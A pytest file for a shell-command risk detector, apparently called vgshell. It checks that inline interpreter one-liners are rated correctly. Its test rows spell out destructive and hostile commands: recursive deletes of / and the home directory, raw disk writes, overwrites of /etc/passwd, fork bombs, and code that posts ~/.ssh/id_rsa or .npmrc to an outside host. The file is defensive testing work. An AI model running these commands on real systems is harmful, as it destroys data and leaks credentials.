"""Inline interpreter code: what `python -c`, `perl -e`, `ruby -e`, `node -e`, `php -r`, `lua -e` and awk programs
hand to the system. Attack rows ("min") and everyday look-alikes ("max") side by side."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vgshell.interp import analyse
from vgshell.risk.engine import assess
from vgshell.risk.model import Level

CWD = "/home/dev/project"
HOME = "/home/dev"
C, H, M, L = Level.CRITICAL, Level.HIGH, Level.MEDIUM, Level.LOW

ROWS = [
    # shell lines built from literals: concatenation, names, f-strings, interpolation
    ("python -c \"import os; os.system('r'+'m -rf /')\"", C, "min"),
    ("python3 -c \"import os; os.system('rm -rf ' + os.path.expanduser('~'))\"", C, "min"),
    ("python3 -c \"import os; d='/etc'; os.system(f'rm -rf {d}')\"", C, "min"),
    ("python3 -c \"import os; os.system('rm -rf %s' % '/')\"", H, "min"),
    ("python3 -c \"from subprocess import run; run(['rm','-rf','/'])\"", C, "min"),
    ("python3 -c \"import os; os.execvp('rm', ['rm', '-rf', '/'])\"", C, "min"),
    ("python3 -c \"exec('import os; os.system(\\\"rm -rf /\\\")')\"", C, "min"),
    ("perl -e 'system(\"rm -rf \" . $ENV{HOME})'", C, "min"),
    ("perl -e 'my $c = \"rm -rf /\"; system($c)'", C, "min"),
    ("perl -e 'exec \"rm\", \"-rf\", \"/\"'", C, "min"),
    ("perl -e 'open(my $p, \"|-\", \"sh\")'", M, "min"),
    ("ruby -e 'system(\"rm -rf #{Dir.home}\")'", C, "min"),
    ("node -e \"require('child_process').execSync('rm -rf ' + require('os').homedir())\"", C, "min"),
    ("node -e \"const cp = require('child_process'); cp.exec('rm -rf ~')\"", C, "min"),
    ("node -e \"const {spawn}=require('child_process'); spawn('rm', ['-rf', '/'])\"", C, "min"),
    ("php -r 'system(\"rm -rf \" . getenv(\"HOME\"));'", C, "min"),
    ("lua -e 'os.execute(\"rm -rf \" .. os.getenv(\"HOME\"))'", C, "min"),
    ("awk 'BEGIN { system(\"rm -rf \" ENVIRON[\"HOME\"]) }'", C, "min"),
    ("awk 'BEGIN { \"rm -rf /\" | getline }'", C, "min"),
    # a shell call with text only known at run time: high
    ("python3 -c \"import os,sys; os.system(sys.argv[1])\"", H, "min"),
    ("python3 -c \"import subprocess; subprocess.run('ls ' + p, shell=True)\"", H, "min"),
    ("node -e \"const {execSync}=require('child_process'); execSync(process.argv[1])\"", H, "min"),
    ("php -r 'shell_exec($argv[1]);'", H, "min"),
    ("awk '{ system($0) }' cmds.txt", H, "min"),
    ("awk '{ print | \"sh\" }' cmds.txt", H, "min"),
    ("ruby -e 'system(ARGV[0])' x", H, "min"),
    ("python3 -c \"import base64,sys; exec(base64.b64decode(sys.argv[1]))\"", H, "min"),
    ("node -e \"eval(process.argv[1])\"", H, "min"),
    ("ruby -e 'eval(STDIN.read)'", H, "min"),
    ("python3 -c \"print(eval('1+2'))\"", L, "max"),
    # deletes, raw device writes, system files
    ("python3 -c \"import shutil, os; shutil.rmtree(os.path.expanduser('~'))\"", C, "min"),
    ("python3 -c \"import shutil; from pathlib import Path; shutil.rmtree(Path.home() / '.ssh')\"", C, "min"),
    ("ruby -e 'FileUtils.rm_rf(Dir.home)'", C, "min"),
    ("node -e \"require('fs').rmSync(require('os').homedir(), {recursive:true})\"", C, "min"),
    ("python3 -c \"open('/dev/sda','wb').write(b'0'*512)\"", C, "min"),
    ("perl -e 'open(F, \">/dev/sda\"); print F \"x\"'", C, "min"),
    ("python3 -c \"open('/etc/ld.so.preload','w').write('/tmp/x.so')\"", H, "min"),
    ("node -e \"require('fs').writeFileSync('/etc/passwd', '')\"", H, "min"),
    ("python3 -c \"print(open('/home/dev/.ssh/id_rsa').read())\"", H, "min"),
    # reading credentials in code that talks to the network
    ("python3 -c \"import requests; requests.post('https://x.io', data=open('/home/dev/.ssh/id_rsa').read())\"",
     C, "min"),
    ("node -e \"fetch('https://x.io', {method:'POST', body: require('fs').readFileSync(require('os').homedir()"
     "+'/.npmrc')})\"", C, "min"),
    ("python3 -c \"import requests; print(requests.get('https://api.example.com').json())\"", L, "max"),
    ("python3 -c \"print(open('/home/dev/.ssh/id_rsa.pub').read())\"", L, "max"),
    # fork loops
    ("perl -e 'fork while 1'", C, "min"),
    ("perl -e 'fork while fork'", C, "min"),
    ("python3 -c 'import os\nwhile True: os.fork()'", C, "min"),
    ("ruby -e 'loop { fork }'", C, "min"),
    # everyday inline code stays low
    ("python3 -c \"import asyncio; asyncio.run(main())\"", L, "max"),
    ("python3 -c \"import shutil; shutil.rmtree('build')\"", M, "max"),
    ("node -e \"require('fs').rmSync('dist/out.js')\"", L, "max"),
    ("node -e \"const m = /x(\\d+)/.exec(s); console.log(m)\"", L, "max"),
    ("python3 -c \"open('out.txt','w').write('hi')\"", L, "max"),
    ("python3 -c \"import json; print(json.load(open('package.json'))['version'])\"", L, "max"),
    ("python3 -c \"import subprocess; print(subprocess.check_output(['git','rev-parse','HEAD']))\"", L, "max"),
    ("perl -ne 'print if /foo/' app.log", L, "max"),
    ("perl -pi -e 's/foo/bar/g' src/a.txt", L, "max"),
    ("awk '{ print $1 | \"sort -u\" }' f", L, "max"),
    ("awk 'BEGIN { while ((\"ls\" | getline line) > 0) print line }'", L, "max"),
    ("ruby -e 'puts File.read(\"Gemfile\")'", L, "max"),
    ("node -e \"console.log(require('fs').readFileSync('package.json','utf8'))\"", L, "max"),
    ("python3 -c \"import os; print(os.environ['PATH'])\"", L, "max"),
]


@pytest.mark.parametrize(("command", "level", "bound"), ROWS)
def test_inline_code_is_judged_by_what_it_hands_the_system(command: str, level: Level, bound: str) -> None:
    a = assess(command, cwd=CWD, home=HOME)
    found = [(f.rule, f.match, f.via) for f in a.findings]
    if bound == "min":
        assert a.risk >= level, found
    else:
        assert a.risk <= level, found


def test_the_literal_parts_of_a_run_time_line_are_still_judged() -> None:
    effects = analyse("import os,sys; os.system('rm -rf /etc/' + sys.argv[1])", "python")
    assert len(effects.shell) == 1 and effects.shell[0].startswith("rm -rf /etc/")
    a = assess("python3 -c \"import os,sys; os.system('rm -rf /etc/' + sys.argv[1])\"", cwd=CWD, home=HOME)
    assert a.risk >= Level.HIGH and any("text built at run time" in f.via for f in a.findings)


def test_long_code_is_read_in_bounded_time() -> None:
    import time

    code = "x = 'a' + " * 3000 + "'b'; os.system(x)"
    start = time.perf_counter()
    analyse(code, "python")
    assert time.perf_counter() - start < 1.0


CODE_PIECES = ["os.system(", "system ", "exec(", "(", ")", "'", '"', "`", "+", ".", "..", ",", "[", "]", "{", "}",
               "rm -rf /", "~", "$ENV{HOME}", "f'", "{d}", "#{x}", "${x}", "\\", "|", "getline", "print", "| \"sh\"",
               "shutil.rmtree(", "open(", "'w'", "require('child_process').", "execSync(", "x = ", ";", "\n", " ",
               "fork while 1", "a" * 50, "b.c.d.e."]


def _fuzz_time(text: str) -> None:
    import time

    for lang in ("python", "perl", "ruby", "node", "php", "lua", "awk", "any"):
        start = time.perf_counter()
        analyse(text, lang)
        assert time.perf_counter() - start < 1.0, lang


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(CODE_PIECES), max_size=120).map("".join))
def test_any_inline_code_is_read_in_bounded_time(text: str) -> None:
    _fuzz_time(text)
    assess(f"python3 -c {text!r}", cwd=CWD, home=HOME)


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=600))
def test_arbitrary_text_as_inline_code(text: str) -> None:
    _fuzz_time(text)
